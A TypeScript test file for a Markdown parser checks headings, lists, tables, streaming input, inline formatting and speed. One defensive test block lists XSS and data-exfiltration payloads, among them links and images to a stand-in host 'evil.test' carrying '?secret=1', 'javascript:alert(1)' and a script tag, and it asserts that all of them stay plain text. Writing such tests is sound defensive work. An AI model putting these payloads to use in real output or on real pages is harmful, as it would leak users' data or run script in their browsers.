import { describe, expect, it } from "vitest";
import { parseInline, parseMarkdown } from "./markdown";

const text = (value: string) => ({ type: "text", text: value });

describe("Markdown of an answer", () => {
  it("has paragraphs, headings, lists and code", () => {
    expect(
      parseMarkdown("# Runs\n\nTwo runs\nfailed:\n- one\n- two\n\n```sql\nselect 1\n```\n3. third"),
    ).toEqual([
      { type: "heading", text: "Runs" },
      { type: "paragraph", text: "Two runs\nfailed:" },
      { type: "list", ordered: false, start: 1, items: ["one", "two"] },
      { type: "code", text: "select 1" },
      { type: "list", ordered: true, start: 3, items: ["third"] },
    ]);
  });

  it("has tables", () => {
    expect(parseMarkdown("| name | rows |\n|---|---:|\n| flights | 10 |")).toEqual([
      { type: "table", head: ["name", "rows"], rows: [["flights", "10"]] },
    ]);
  });

  it.each([
    ["```python\nfor row in", { type: "code", text: "for row in" }],
    ["| name | rows |\n|---|---|\n| fli", { type: "table", head: ["name", "rows"], rows: [] }],
    ["- one\n- tw", { type: "list", ordered: false, start: 1, items: ["one", "tw"] }],
  ])("shows %j, which is still being written", (source, block) => {
    expect(parseMarkdown(source)[0]).toEqual(block);
  });

  it("has strong text, emphasis and code", () => {
    expect(parseInline("**Late** *now* `a_b_c` 2 * 3 * 4")).toEqual([
      { type: "strong", children: [text("Late")] },
      text(" "),
      { type: "emphasis", children: [text("now")] },
      text(" "),
      { type: "code", text: "a_b_c" },
      text(" 2 * 3 * 4"),
    ]);
  });

  it("links to pages of this site", () => {
    expect(parseInline("[flights](/pipelines/p1)")).toEqual([
      { type: "link", path: "/pipelines/p1", children: [text("flights")] },
    ]);
  });

  it.each([
    "[x](https://evil.test/?secret=1)",
    "[x](//evil.test)",
    "[x](/\\evil.test)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "<https://evil.test>",
    "<a href='https://evil.test'>x</a>",
    "<script>alert(1)</script>",
    "<img src=https://evil.test>",
  ])("shows %s as the text that it is", (source) => {
    expect(parseMarkdown(source)).toEqual([{ type: "paragraph", text: source }]);
    expect(JSON.stringify(parseInline(source))).not.toContain('"type":"link"');
    expect(flatten(parseInline(source))).toBe(source);
  });

  it("replaces an image by its description, so that nothing is loaded", () => {
    expect(parseInline("![a chart](https://evil.test/?secret=1)")).toEqual([text("a chart")]);
  });

  it.each(["[", "*a", "![", "[a](", "a`", "> ", "| "])(
    "reads 100,000 times %s without getting slow",
    (part) => {
      const started = performance.now();
      for (const block of parseMarkdown(part.repeat(100_000))) {
        if ("text" in block) expect(flatten(parseInline(block.text)).length).toBeGreaterThan(0);
      }
      expect(performance.now() - started).toBeLessThan(10_000);
    },
  );
});

function flatten(value: unknown): string {
  if (Array.isArray(value)) return value.map(flatten).join("");
  const { text = "", children = [] } = value as { text?: string; children?: unknown[] };
  return text + flatten(children);
}
